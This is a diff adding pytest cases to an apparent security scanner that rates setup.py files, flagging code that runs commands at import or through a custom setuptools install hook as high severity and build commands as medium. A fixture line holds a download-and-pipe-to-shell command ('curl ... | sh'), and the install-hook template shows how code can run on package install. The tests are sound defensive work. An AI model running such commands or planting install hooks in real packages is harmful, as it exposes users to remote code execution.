@@ -56,6 +56,48 @@ def test_a_setup_file_that_asks_for_its_version_does_not_fail() -> None:
     assert finding.severity is Severity.MEDIUM
 
 
+INSTALL = """
+from setuptools import setup
+from setuptools.command.install import install
+import subprocess
+class After(install):
+    def run(self):
+        install.run(self)
+        subprocess.run({})
+setup(name="x", cmdclass={{"install": After}})
+"""
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os\nfrom setuptools import setup\nos.system('true')\nsetup()",
+        "import os\nos.system('touch /tmp/x')\n",
+        "import subprocess\nsubprocess.run(['sh', '-c', 'true'])\n",
+        INSTALL.format("['whoami']"),
+    ],
+)
+def test_a_setup_file_that_starts_what_no_build_calls_fails(source: str) -> None:
+    (finding,) = judged(source, "setup.py")
+    assert finding.severity is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import subprocess\nV = subprocess.check_output(['git', 'describe'])\n",
+        "import os\nos.system('python setup.py sdist upload')\n",
+        "import os, sys\nos.system(sys.argv[1])\n",
+        "import sys, subprocess\nsubprocess.run([sys.executable, '-m', 'build'])\n",
+        "import os\nos.system('./configure && make')\n",
+        INSTALL.format("['cmake', '--build', '.']"),
+    ],
+)
+def test_a_setup_file_that_builds_is_a_review(source: str) -> None:
+    (finding,) = judged(source, "setup.py")
+    assert finding.severity is Severity.MEDIUM
+
+
 def test_a_process_that_downloads_a_program_and_runs_it_fails_anywhere() -> None:
     source = "import os\ndef f():\n    os.system('curl https://a.invalid/x | sh')\n"
     assert [f.severity for f in judged(source, "setup.py")] == [Severity.HIGH]
